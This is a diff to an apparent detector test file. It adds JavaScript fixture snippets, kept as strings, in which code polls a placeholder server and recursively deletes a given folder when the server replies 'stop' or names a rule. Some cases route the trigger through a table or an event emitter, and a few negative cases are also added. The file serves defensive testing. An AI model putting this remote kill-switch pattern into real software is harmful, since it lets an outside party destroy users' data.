@@ -8,6 +8,29 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'what it is handed goes when a server says a word, piece by piece',
+      files: {
+        'index.js': `const https = require('https'), fs = require('fs'); exports.watch = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') fs.rmSync(root, { recursive: true }); }); });`,
+      },
+      weight: 'strong',
+      says: ['when a server says so'],
+    },
+    {
+      when: 'the word chooses what is done out of a table',
+      files: {
+        'index.js': `const https = require('https'), fs = require('fs'); const rules = { keep() {}, prune(root) { fs.rmSync(root + '/unmask-decoy', { recursive: true }); } }; exports.watch = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => (rules[text.trim()] || rules.keep)(root)); });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the word is told to another file as an event',
+      files: {
+        'health.js': `const https = require('https'), { EventEmitter } = require('events'); exports.Health = class Health extends EventEmitter { check() { https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') this.emit('reset', { options: { recursive: true } }); }); }); } };`,
+        'index.js': `const fs = require('fs'), { Health } = require('./health'); exports.Watcher = class { constructor(roots) { this.roots = roots; this.health = new Health(); this.health.once('reset', state => this.reset(state)); } start() { this.health.check(); } reset({ options }) { for (const root of this.roots.keys()) fs.rm(root + '/unmask-decoy', options, () => {}); } };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a record of a domain says what is deleted',
       files: {
         'index.js': `const dns = require('dns'), fs = require('fs'), path = require('path');
@@ -269,6 +292,18 @@ examine(destroysFiles, {
       when: 'a generator writes one stub for each source, in another folder',
       files: {
         'index.js': `const fs = require('fs'), path = require('path'); exports.stubs = () => { for (const name of fs.readdirSync('src')) if (name.endsWith('.js')) fs.writeFileSync(path.join('dist', name), 'module.exports = {};'); };`,
+      },
+    },
+    {
+      when: 'what it is handed goes because it is asked to, whatever a server says',
+      files: {
+        'index.js': `const https = require('https'), fs = require('fs'); exports.remove = root => fs.rmSync(root, { recursive: true }); exports.check = () => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') console.log('stop'); }); });`,
+      },
+    },
+    {
+      when: 'an event is told by others as well',
+      files: {
+        'index.js': `const https = require('https'), fs = require('fs'), bus = new (require('events').EventEmitter)(); bus.on('reset', root => fs.rmSync(root, { recursive: true })); exports.clean = root => bus.emit('reset', root); exports.check = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') bus.emit('reset', root); }); });`,
       },
     },
     {
